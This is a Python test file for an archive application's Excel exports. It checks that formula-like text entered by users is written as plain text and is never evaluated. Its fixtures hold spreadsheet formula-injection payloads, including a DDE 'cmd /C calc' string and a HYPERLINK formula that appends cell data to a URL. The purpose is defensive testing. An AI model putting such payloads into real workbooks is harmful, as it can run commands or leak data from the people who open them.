"""Hostile text in every workbook the application writes: text that looks like a formula stays text
(read back with openpyxl: no formula anywhere), control characters never break a write-only sheet,
and real numbers stay numbers."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from zhuji_archive.exports import xlsx_cells
from zhuji_archive.services.archive import Archive
from zhuji_archive.services.household_list import HouseholdFilter
from zhuji_archive.services.request_exports import parse_month
from zhuji_archive.storage.request_queries import RequestQuery

DAY = date(2026, 11, 2)
LINK = '=HYPERLINK("http://example.com/?q="&D2,"点击核对")'
HOSTILE = (LINK, "=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0")


def formulas(path: Path) -> list[str]:
    """Every formula cell of a workbook, as sheet!cell."""
    found = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            found.extend(f"{ws.title}!{c.coordinate}" for c in row if c.data_type == "f")
    return found


def texts(path: Path) -> set[str]:
    return {
        c.value
        for ws in load_workbook(path).worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def numbers(path: Path) -> list[float]:
    return [
        c.value
        for ws in load_workbook(path).worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, int | float) and not isinstance(c.value, bool)
    ]


@pytest.fixture
def hostile(demo_archive: Archive) -> Archive:
    """The demo archive with formula-like text in a household, a member, a request, a code label and
    a cadre's name, all entered through the services as a user could."""
    arc = demo_archive
    row = arc.household_list.page(HouseholdFilter(), limit=1)[0]
    file = arc.households.load(row.id)
    file.address = LINK
    file.members[0].migrant_worker = True
    file.members[0].migrant_place = "+SUM(1,2)"
    cadre = arc.organisation.add_cadre("=cmd|' /C calc'!A0", "驻村干部")
    file.responsible_cadre_id = cadre
    arc.codes.add("request_category", "=1+1")
    arc.codes.add("economic_type", "@SUM(A1)")
    arc.codes.add("focus_tag", "-1+1")
    file.economic_types = [*file.economic_types, "@SUM(A1)"]
    file.focus_tags = [*file.focus_tags, "-1+1"]
    arc.households.save(file)
    arc.requests.record(row.id, "=1+1", "-2+3", date(2026, 10, 15))
    return arc


def test_rosters_keep_formula_text_as_text(hostile: Archive, tmp_path: Path) -> None:
    expected = {
        "households": {LINK, "=cmd|' /C calc'!A0"},
        "members": {"+SUM(1,2)"},
        "focus": {LINK},
    }
    for kind, hostile_texts in expected.items():
        path = tmp_path / f"{kind}.xlsx"
        hostile.exports.roster(path, kind, tag="-1+1" if kind == "focus" else None, today=DAY)
        assert formulas(path) == []
        assert hostile_texts <= texts(path), kind
        assert any("@SUM(A1)" in t for t in texts(path)) or kind != "households"
        assert numbers(path)  # 序号, household numbers, member counts stay numbers
    members = load_workbook(tmp_path / "members.xlsx").active
    assert any(c.value == "+SUM(1,2)" and c.quotePrefix for row in members.iter_rows() for c in row)


def test_request_ledger_and_summary_keep_formula_text_as_text(hostile: Archive, tmp_path: Path) -> None:
    ledger = tmp_path / "台账.xlsx"
    hostile.request_exports.ledger(RequestQuery(), ledger, today=DAY)
    assert formulas(ledger) == []
    assert {"=1+1", "-2+3"} <= texts(ledger)
    summary = tmp_path / "月报.xlsx"
    village = hostile.household_list.page(HouseholdFilter(), limit=1)[0]
    with hostile.db.sessions() as session:
        from zhuji_archive.storage.models import Household

        village_id = session.get(Household, village.id).village_id
    hostile.request_exports.summary_xlsx("village", village_id, parse_month("2026年10月"), summary, today=DAY)
    assert formulas(summary) == []
    assert "=1+1" in texts(summary)
    assert numbers(summary)  # the counts are numbers


def test_assessment_table_keeps_a_formula_like_name_as_text(hostile: Archive, tmp_path: Path) -> None:
    path = tmp_path / "考核.xlsx"
    hostile.service_links.export_assessment(path, date(2026, 1, 1), DAY)
    assert formulas(path) == []
    assert "=cmd|' /C calc'!A0" in texts(path)


def test_template_keeps_a_formula_like_code_label_as_text(hostile: Archive, tmp_path: Path) -> None:
    path = tmp_path / "模板.xlsx"
    hostile.importer.write_template(path)
    assert formulas(path) == []
    assert any("@SUM(A1)" in t for t in texts(path))


def test_error_workbook_writes_back_formula_text_as_text(archive: Archive, tmp_path: Path) -> None:
    source = tmp_path / "台账.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "一组"
    ws.append(["姓名", "与户主关系", "身份证号", "备注"])
    ws.append(["张三", "户主", "123", None])
    ws["D2"] = LINK
    ws["D2"].data_type = "s"  # a text cell, as a village's file holds it
    ws.append(["李四", "户主", "456", "+1"])
    wb.save(source)
    importer = archive.importer
    sources = importer.read([source])
    importer.assign_groups(sources, importer.find_village("杜黄村"), "一组")
    plan = importer.plan(sources)
    report = tmp_path / "错误.xlsx"
    assert importer.write_errors(plan, report) == 2
    assert formulas(report) == []
    assert {LINK, "+1"} <= texts(report)


SLOW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@SLOW
@given(
    text=st.text(min_size=1, max_size=20).map(lambda t: t.replace("\ud800", ""))
    | st.sampled_from(HOSTILE)
    | st.builds(lambda a, b: a + b, st.sampled_from("=+-@"), st.text(max_size=10)),
    number=st.integers(-10**6, 10**6) | st.floats(allow_nan=False, allow_infinity=False, width=32),
)
def test_any_text_is_written_as_text_and_numbers_as_numbers(tmp_path: Path, text: str, number: float) -> None:
    text = "".join(ch for ch in text if not "\ud800" <= ch <= "\udfff")
    for write_only in (True, False):
        wb = openpyxl.Workbook(write_only=write_only)
        ws = wb.create_sheet("表")
        ws.append(xlsx_cells.row(ws, [text, number, text, 7]))
        if not write_only:
            xlsx_cells.put(ws, 2, 1, text)
        path = tmp_path / f"any-{write_only}.xlsx"
        wb.save(path)
        assert formulas(path) == []
        sheet = load_workbook(path)["表"]
        first = [c.value for c in sheet[1]]
        # XML keeps no bare carriage return: a reader sees a line feed, as Excel does.
        kept = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r\n", "\n").replace("\r", "\n")
        expected = kept or None
        assert first[0] == expected and first[2] == expected
        assert first[1] == pytest.approx(number) and first[3] == 7
        assert isinstance(first[1], int | float) and isinstance(first[3], int)


def test_no_module_writes_cell_values_around_the_one_function() -> None:
    """ws.cell(row, column, value), WriteOnlyCell(ws, value) and cell.value = … only in xlsx_cells."""
    import ast

    root = Path(__file__).resolve().parent.parent / "zhuji_archive"
    offenders = []
    for path in sorted([*root.glob("exports/*.py"), *root.glob("services/*.py")]):
        source = path.read_text(encoding="utf-8")
        if path.name == "xlsx_cells.py" or "openpyxl" not in source:  # only the workbook writers
            continue
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "xlsx_cells":
                    continue
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
                if (name == "cell" and len(node.args) + len(node.keywords) >= 3) or (
                    name == "WriteOnlyCell" and len(node.args) + len(node.keywords) >= 2
                ):
                    offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Attribute) and target.attr == "value":
                        offenders.append(f"{path.name}:{node.lineno}")
    assert offenders == [], offenders
